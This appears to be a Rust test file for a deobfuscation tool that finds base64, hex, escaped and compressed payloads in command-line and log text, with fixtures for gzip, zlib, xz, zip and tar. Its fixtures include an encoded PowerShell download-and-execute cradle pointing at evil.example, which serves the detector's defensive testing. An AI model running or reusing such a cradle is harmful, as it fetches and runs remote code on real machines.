//! What is found and what is not. Fixtures are made with Python's own tarfile,
//! zipfile, bz2, lzma and zlib of the text [`HELLO`].

use base64_simd::URL_SAFE_NO_PAD;
use flate2::write::DeflateEncoder;

use super::*;

const TAR_USTAR: &str = "H4sIAAAAAAACA+3NQQrCMBCF4RwlJ0iClhY8gSdwH+iIgdSEdpR6e0NX4l5d+H+bN+9tJjpd1XxWaPqu27J5zxCGl3vb+2G3NzaYL7gtGuf20vyno+Rc7Hkuk03XJY3i7CktSe1FtR68l3vKTtY41Sy+xkcucWxdDAAAAAAAAAAAAAAAAADgp56L24t+ACgAAA==";
const TAR_GNU_LONG: &str = "H4sIAAAAAAACA+3TvQrCMBRA4TxKniBJpTTg5OjQ2T3QqMH0hzZKfXuVguDQsSr0fHdIctdwlFZ6V7bNqQzNRSzDTOZOk9nifZ/21haZkKX4guuQXC+lWKlK/2acSmMSWMP/v6Iu8ny2f2PNZ/+bPLMbIQ39L27vY2zlsW9rGZohVF7JQxhCkueUuq3W/hai8qOru+h15+6xddXz7SkHAAAAAAAAAAAAAADgPzwAdhATGAAoAAA=";
const TAR_PAX: &str = "H4sIAAAAAAACA+3TPQrCMBiA4cyeIidI0loiCKKjo5N7oBED0ZY2Sj2S5/Bi/oGDIAjiD/g+GfIlS4bwKq30ZOa6qXelb8RbmKtHu8mNvc2X+8zkWV/ITnzApk2uOT0v/lPWL2Tt0nJ02H9nqdSlnsCXjF9w/rpn+7dF8bB/MzB3/VtjrZCG/t9u6mOs5KKpVjKs21B6JeehDUkuU6qHWvttiMp3blVHr2u3i5UrT2dPOQAAAAAAAAAAAAAAAL/hCP3Em2gAKAAA";
const TAR_V7: &str = "H4sIAAAAAAACA+3QMQrDMBBEUR1FJ5BUyDHkBDlBeoHXZEGORCyCc/sIVyG9cfNfMztTbnJta+ZYobvEuGf3nyGMP/e+D0OIxgaDo90k52LnV1msPledxNm7rtrso7V69V7emp1saalZfE2fXNLUu/A5AAAAAAAAAAAAAAAAADjXFyurJE0AKAAA";
const BZIP2: &str = "QlpoOTFBWSZTWZitkTsAAAWfgEABgBAAQAEAJ2fdYCAASIpo9Q2Q2qemjUKADEaaaNKCBYXRDeips2dF7ZWJS1vl+lu1pA8Mpho1PpUYnh8XckU4UJCYrZE7";
const XZ: &str = "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQA3SGVsbG8gZnJvbSBpbnNpZGUuIFZpc2l0IGh0dHA6Ly9ldmlsLmV4YW1wbGUvcGF5bG9hZC5leGUATH5raSadZM8AAVA44VA/sh+2830BAAAAAARZWg==";
const ZLIB: &str =
    "eJzzSM3JyVdIK8rPVcjMK85MSdVTCMsszixRyCgpKbDS108ty8zRS61IzC3ISdUvSKzMyU9MAfJTAUHDFI0=";
const DEFLATE: &str =
    "80jNyclXSCvKz1XIzCvOTEnVUwjLLM4sUcgoKSmw0tdPLcvM0UutSMwtyEnVL0iszMlPTAHyUz3orA8A";
const ZIP64_DESCRIPTOR: &str = "UEsDBC0ACAAIAAAAIQAAAAAA//////////8FABQAYS50eHQBABAAAAAAAAAAAAAAAAAAAAAAAPNIzcnJV0grys9VyMwrzkxJ1VMIyyzOLFHIKCkpsNLXTy3LzNFLrUjMLchJ1S9IrMzJT0wB8lMBUEsHCGBtfGY4AAAAAAAAADgAAAAAAAAAUEsBAi0DLQAIAAgAAAAhAGBtfGY4AAAAOAAAAAUAAAAAAAAAAAAAAIABAAAAAGEudHh0UEsFBgAAAAABAAEAMwAAAIcAAAAAAA==";
const ZIP_STORED: &str = "UEsDBBQAAAAAAAAAIQBgbXxmOAAAADgAAAAFAAAAcy50eHRIZWxsbyBmcm9tIGluc2lkZS4gVmlzaXQgaHR0cDovL2V2aWwuZXhhbXBsZS9wYXlsb2FkLmV4ZVBLAQIUAxQAAAAAAAAAIQBgbXxmOAAAADgAAAAFAAAAAAAAAAAAAACAAQAAAABzLnR4dFBLBQYAAAAAAQABADMAAABbAAAAAAA=";

#[test]
fn what_is_encoded_is_found() {
    let plain = base64(HELLO);
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
    let encoded = base64(utf16(script));
    let wrapped = |width: usize, end: &str| {
        let text = base64(HELLO.repeat(4));
        let lines = text.as_bytes().chunks(width).map(String::from_utf8_lossy);
        lines.collect::<Vec<_>>().join(end)
    };
    let wide = HELLO.repeat(4);
    let long = "d/".repeat(60);
    let deflated = |text: &str| {
        let mut writer = DeflateEncoder::new(Vec::new(), Compression::default());
        writer.write_all(text.as_bytes()).expect("memory");
        writer.finish().expect("memory")
    };
    let hex: String = HELLO.bytes().map(|byte| format!("{byte:02X}")).collect();
    let escaped: String = HELLO.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    let percent: String = HELLO.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let numbers: Vec<String> = HELLO.bytes().map(|byte| byte.to_string()).collect();
    let jwt = format!(
        "{}.{}.{}",
        URL_SAFE_NO_PAD.encode_to_string(br#"{"alg":"RS256","typ":"JWT"}"#),
        URL_SAFE_NO_PAD.encode_to_string(br#"{"sub":"1234567890","name":"x"}"#),
        URL_SAFE_NO_PAD.encode_to_string(noise(256)),
    );
    let one = |method: &str, kind: &str| vec![format!("1 {method} {kind} {HELLO}")];
    let two =
        |outer: &str, method: &str| vec![outer.to_string(), format!("1.1 {method} - {HELLO}")];
    let rows: Vec<(&str, String, Vec<String>)> = vec![
        ("plain", format!("cmd /c echo {plain}"), one("base64", "-")),
        ("in quotes", format!("x='{plain}';"), one("base64", "-")),
        (
            "in a URL",
            format!("http://a.example/x?d={}&y=1", plain.replace('=', "%3D")),
            one("base64", "-"),
        ),
        (
            "in a path",
            format!("GET /files/v1/{plain} HTTP/1.1"),
            one("base64", "-"),
        ),
        (
            "added strings",
            format!("'{}'+'{}'", &plain[..30], &plain[30..]),
            one("base64", "-"),
        ),
        (
            "without padding (msticpy leaves odd lengths)",
            plain.trim_end_matches('=').into(),
            one("base64", "-"),
        ),
        (
            "letters after the padding",
            format!("{plain}trailing"),
            one("base64", "-"),
        ),
        (
            "two, each by itself",
            format!("{plain},{plain}"),
            vec![format!("1 base64 - {HELLO}"), format!("2 base64 - {HELLO}")],
        ),
        (
            "one a line",
            format!("{plain}\n{plain}\n"),
            vec![format!("1 base64 - {HELLO}"), format!("2 base64 - {HELLO}")],
        ),
        (
            "wrapped at 76 (msticpy takes none of it)",
            wrapped(76, "\r\n"),
            vec![format!("1 base64 - {wide}")],
        ),
        (
            "wrapped and indented",
            wrapped(64, "\n    "),
            vec![format!("1 base64 - {wide}")],
        ),
        (
            "wrapped in JSON",
            wrapped(64, "\\n"),
            vec![format!("1 base64 - {wide}")],
        ),
        (
            "url-safe",
            URL_SAFE_NO_PAD.encode_to_string("subjects?_d=~~~ÿÿþþ and more text"),
            vec!["1 base64url - subjects?_d=~~~ÿÿþþ and more text".into()],
        ),
        (
            "PowerShell",
            format!("powershell -nop -enc {encoded}"),
            vec![format!("1 base64 ps1 {script}")],
        ),
        (
            "short, but said to be base64",
            "powershell -ec ZABpAHIAIABjADoA".into(),
            vec!["1 base64 - dir c:".into()],
        ),
        (
            "a JSON Web Token, without its signature",
            format!("Bearer {jwt}"),
            vec![
                r#"1 base64url json {"alg":"RS256","typ":"JWT"}"#.replace("base64url", "base64"),
                r#"2 base64 json {"sub":"1234567890","name":"x"}"#.into(),
            ],
        ),
        ("hex with its mark", format!("0x{hex}"), one("hex", "-")),
        ("hex", hex, one("hex", "-")),
        ("escapes", escaped, one("escape", "-")),
        ("percent", percent, one("percent", "-")),
        (
            "numbers",
            format!("[char[]]({})", numbers.join(", ")),
            one("numbers", "-"),
        ),
        (
            "char by char",
            "iex ([char]100+[char]105+[char]114)+[char]0x20".into(),
            vec!["1 char - dir ".into()],
        ),
        (
            "gzip",
            format!("data {}", base64(gzip(HELLO.as_bytes()))),
            two("1 base64 gz 1f", "gz"),
        ),
        ("zlib", ZLIB.into(), two("1 base64 zlib 78", "zlib")),
        (
            "raw deflate, as PowerShell's DeflateStream",
            DEFLATE.into(),
            vec![
                "1 base64 deflate f3".into(),
                format!("1.1 deflate - {}", HELLO.repeat(3)),
            ],
        ),
        (
            "raw deflate of a script",
            base64(deflated(&script.repeat(2))),
            vec![
                "1 base64 deflate f3".into(),
                format!("1.1 deflate ps1 {}", script.repeat(2)),
            ],
        ),
        (
            "bzip2 (defect 5)",
            BZIP2.into(),
            two("1 base64 bz2 42", "bz2"),
        ),
        ("xz (defect 5)", XZ.into(), two("1 base64 xz fd", "xz")),
        ("xz -9", XZ9.into(), two("1 base64 xz fd", "xz")),
        (
            "stored zip (defect 5)",
            ZIP_STORED.into(),
            two("1 base64 zip 50", "zip"),
        ),
        (
            "zip64 with a data descriptor (defect 5)",
            ZIP64_DESCRIPTOR.into(),
            two("1 base64 zip 50", "zip"),
        ),
    ];
    for (name, text, expected) in rows {
        assert_eq!(
            summary(&run(&text, &UnpackOptions::default())),
            expected,
            "{name}"
        );
    }
    // Tar of every flavour (defect 5: msticpy opens one layout only).
    for (name, text, file) in [
        ("ustar", TAR_USTAR, "a.txt"),
        ("gnu, a long name", TAR_GNU_LONG, &format!("{long}a.txt")),
        (
            "pax, a long name",
            TAR_PAX,
            &format!("{}.txt", "é".repeat(60)),
        ),
        ("as of 1979", TAR_V7, "a.txt"),
    ] {
        let table = run(text, &UnpackOptions::default());
        assert_eq!(column(&table, "method"), ["base64", "gz", "tar"], "{name}");
        assert_eq!(column(&table, "file_name")[2], file, "{name}");
        assert_eq!(column(&table, "decoded_string")[2], HELLO, "{name}");
    }
}

#[test]
fn what_is_not_encoded_is_left() {
    let rows = [
        (
            "words (defect 17)",
            "averyveryveryverylongenglishwordwithoutspaces thisisanotherlongwordthatlookslikebase64",
        ),
        (
            "names",
            "getUserAccountControlFlagsFromActiveDirectory ParameterBindingCommand DefaultAccount",
        ),
        (
            "hashes (defect 17)",
            "d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ),
        (
            "integrity",
            "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
        ),
        (
            "a key's fingerprint",
            "RSA SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8",
        ),
        (
            "paths",
            "C:/aaaa/bbbb/cccc/dddd/eeee/ffff/gggg/hhhh /usr/lib/python3/dist-packages/setuptools/command/build",
        ),
        (
            "registry",
            r"HKLM\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy",
        ),
        (
            "a URL",
            "https://www.example.com/articles/2019/01/15/how-to-find-what-is-encoded?utm_source=newsletter",
        ),
        (
            "GUIDs",
            "{d290f1ee-6c54-4b01-90e6-d701748f0851} 4b2462a4-bbee-495a-a0e1-f23ae524cc9c",
        ),
        (
            "encoded blanks",
            "/search?q=how%20to%20read%20a%20log%20and%20what%20to%20do%20then%20with%20it",
        ),
        (
            "numbers",
            "1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18 12345678901234567890123456789012",
        ),
        (
            "rulers",
            "----------------------------------------------------------------------------",
        ),
        (
            "one letter",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        ),
        (
            "a name that decodes to a cut character",
            "VERBOSE_THROTTLE = 1",
        ),
        (
            "grep -e is no -enc",
            "grep -e averylongpatternofletters file",
        ),
        ("nothing", ""),
    ];
    for (name, text) in rows {
        assert_eq!(
            summary(&run(text, &UnpackOptions::default())),
            [""; 0],
            "{name}"
        );
    }
}

#[test]
fn bytes_are_what_they_begin_with() {
    let mut padded = gzip(HELLO.as_bytes());
    padded.extend(gzip(b" and more"));
    padded.extend([0; 512]);
    let zlib = STANDARD.decode_to_vec(ZLIB).expect("base64");
    let rows = [
        (
            "a padded gzip of two members",
            padded,
            format!("1 gz - {HELLO} and more"),
        ),
        ("zlib", zlib, format!("1 zlib - {HELLO}")),
    ];
    for (name, bytes, expected) in rows {
        let table = unpack_bytes(&bytes, &UnpackOptions::default(), &mut Progress::none());
        let table = table.expect(name);
        assert_eq!(summary(&table), [expected], "{name}");
        assert_eq!(column(&table, "error"), ["-"], "{name}");
    }
}
